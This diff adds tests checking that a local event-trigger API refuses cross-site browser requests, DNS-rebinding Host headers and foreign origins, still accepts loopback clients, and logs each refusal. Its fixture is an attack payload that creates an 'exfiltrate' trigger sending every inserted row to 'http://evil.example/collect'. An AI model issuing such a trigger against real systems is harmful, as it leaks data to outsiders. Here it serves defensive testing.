@@ -390,3 +390,117 @@ describe('bounded requests and answers', () => {
     });
   });
 });
+
+describe('requests from web browsers', () => {
+  /** What a page on another site makes a browser send: a simple POST (no preflight), text/plain. */
+  const attack = {
+    type: 'create_event_trigger',
+    args: { name: 'exfiltrate', table: 'items', webhook: 'http://evil.example/collect', insert: { columns: '*' } },
+  };
+  const send = async (base: string, path: string, headers: Record<string, string>, body: unknown = attack, method: 'GET' | 'POST' = 'POST') => {
+    const res = await request(`${base}${path}`, {
+      method,
+      headers: { ...(method === 'POST' ? { 'content-type': 'text/plain;charset=UTF-8' } : {}), ...headers },
+      ...(method === 'POST' ? { body: JSON.stringify(body) } : {}),
+    });
+    const text = await res.body.text();
+    const json = res.headers['content-type']?.toString().startsWith('application/json') ? JSON.parse(text) : undefined;
+    return { status: res.statusCode, text, json };
+  };
+  const port = () => new URL(api.url).port;
+  const expectRefused = (res: { status: number; json: any }, error: RegExp) => {
+    expect(res.status).toBe(403);
+    expect(Object.keys(res.json).sort()).toEqual(['code', 'error', 'path']);
+    expect(res.json).toMatchObject({ path: '$', code: 'access-denied' });
+    expect(res.json.error).toMatch(error);
+  };
+
+  test('a cross-site page cannot create a trigger, on any route, however it sends', async () => {
+    const before = await catalogSnapshot(api.pool);
+    const browsers: Array<[string, Record<string, string>, RegExp]> = [
+      ['current browsers', { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' }, /other origins are refused \(Origin "http:\/\/evil.example"\)/],
+      ['browsers without Sec-Fetch-*', { origin: 'http://evil.example' }, /other origins/],
+      ['a sandboxed frame or a file: page', { origin: 'null' }, /other origins/],
+      ['another port of this machine', { origin: 'http://127.0.0.1:3000', 'sec-fetch-site': 'same-site' }, /other origins/],
+      ['a same-site page without Origin', { 'sec-fetch-site': 'same-site' }, /other sites are refused \(Sec-Fetch-Site "same-site"\)/],
+      ['a cross-site page without Origin', { 'sec-fetch-site': 'cross-site' }, /other sites/],
+    ];
+    for (const [who, headers, error] of browsers) {
+      for (const path of ['/v1/metadata', '/v1/query', '/rpc', '/v2/anything']) {
+        const body = path === '/rpc' ? { jsonrpc: '2.0', id: 1, method: attack.type, params: attack.args } : attack;
+        expectRefused(await send(api.url, path, headers, body), error);
+      }
+      // Answers that cross-origin pages could read (no-cors GETs carry no Origin, but Sec-Fetch-Site).
+      if (headers['sec-fetch-site']) expectRefused(await send(api.url, '/v1/version', headers, undefined, 'GET'), error);
+      expect(await catalogSnapshot(api.pool), who).toEqual(before);
+    }
+  });
+
+  test('DNS rebinding: a page whose name now points at 127.0.0.1 is same-origin to the browser, but its Host gives it away', async () => {
+    const host = `rebound.evil.example:${port()}`;
+    const headers = { host, origin: `http://${host}`, 'sec-fetch-site': 'same-origin' };
+    expectRefused(await send(api.url, '/v1/metadata', headers), /requests addressed to "rebound.evil.example:\d+" are refused: without ADMIN_SECRET/);
+    expectRefused(await send(api.url, '/v1/version', { host }, undefined, 'GET'), /loopback/);
+    expect((await wideOpen('/v1/query', { host: `localhost:${port()}` })).status).toBe(400);
+  });
+
+  /** A harmless request: a 400 not-exists shows it was let through to the operation. */
+  const wideOpen = (path: string, headers: Record<string, string>) =>
+    send(api.url, path, headers, { type: 'delete_event_trigger', args: { name: 'nothing_here' } });
+
+  test('curl, CLIs and servers (no Origin, no Sec-Fetch-*), loopback names, and the page typed in the address bar still work', async () => {
+    const allowed: Array<Record<string, string>> = [
+      {},
+      { host: `localhost:${port()}` },
+      { host: 'LOCALHOST' },
+      { host: `127.0.0.2:${port()}` },
+      { host: '[::1]:9999' },
+      { host: 'pget.localhost' },
+      { origin: `http://127.0.0.1:${port()}`, 'sec-fetch-site': 'same-origin' },
+      { 'sec-fetch-site': 'none' },
+    ];
+    for (const headers of allowed) {
+      const res = await wideOpen('/v1/query', headers);
+      expect(res.status, JSON.stringify(headers)).toBe(400);
+      expect(res.json.code).toBe('not-exists');
+    }
+    // /healthz answers probes whatever they send.
+    const health = await send(api.url, '/healthz', { host: 'probe.internal', origin: 'http://evil.example' }, undefined, 'GET');
+    expect(health).toMatchObject({ status: 200, text: 'OK' });
+  });
+
+  test('with ADMIN_SECRET, any Host is fine (a proxy may forward its own), but a cross-site page is refused even with the secret', async () => {
+    const secured = await startApi({ adminSecret: 's3cr3t' });
+    try {
+      const secret = { 'x-hasura-admin-secret': 's3cr3t' };
+      const op = { type: 'delete_event_trigger', args: { name: 'nothing_here' } };
+      expect((await send(secured.url, '/v1/query', { ...secret, host: 'events.example.com' }, op)).json.code).toBe('not-exists');
+      // Behind a TLS proxy: the page is https, the daemon http; host and port decide.
+      const proxied = { ...secret, host: 'events.example.com', origin: 'https://events.example.com', 'sec-fetch-site': 'same-origin' };
+      expect((await send(secured.url, '/v1/query', proxied, op)).json.code).toBe('not-exists');
+      expectRefused(await send(secured.url, '/v1/query', { ...secret, origin: 'http://evil.example' }, op), /other origins/);
+      expectRefused(await send(secured.url, '/v1/query', { origin: 'http://evil.example' }, op), /other origins/);
+    } finally {
+      await secured.close();
+    }
+  });
+
+  test('each refusal is logged with the path, the address and the reason', async () => {
+    const lines: string[] = [];
+    const log = pino({ level: 'info' }, { write: (line: string) => void lines.push(line) });
+    const ctx = createOperationContext({ pool: api.pool, schema: api.schema, sourceName: 'default', heartbeatTimeoutMs: 30_000, log });
+    const app = await buildApp({ ctx, adminSecret: undefined, host: '127.0.0.1', bodyLimit: 65_536, version: 'test', health: async () => ({ ok: true }), log });
+    const url = await app.listen({ host: '127.0.0.1', port: 0 });
+    try {
+      expectRefused(await send(url, '/v1/metadata', { origin: 'http://evil.example' }), /other origins/);
+      expectRefused(await send(url, '/rpc', { host: 'evil.example' }), /loopback/);
+      const refusals = lines.map((l) => JSON.parse(l)).filter((e) => e.msg === 'request refused');
+      expect(refusals).toEqual([
+        expect.objectContaining({ level: 40, path: '/v1/metadata', ip: '127.0.0.1', reason: 'cross-origin request (Origin "http://evil.example")' }),
+        expect.objectContaining({ level: 40, path: '/rpc', ip: '127.0.0.1', reason: 'Host "evil.example" is not a loopback name or address' }),
+      ]);
+    } finally {
+      await app.close();
+    }
+  });
+});
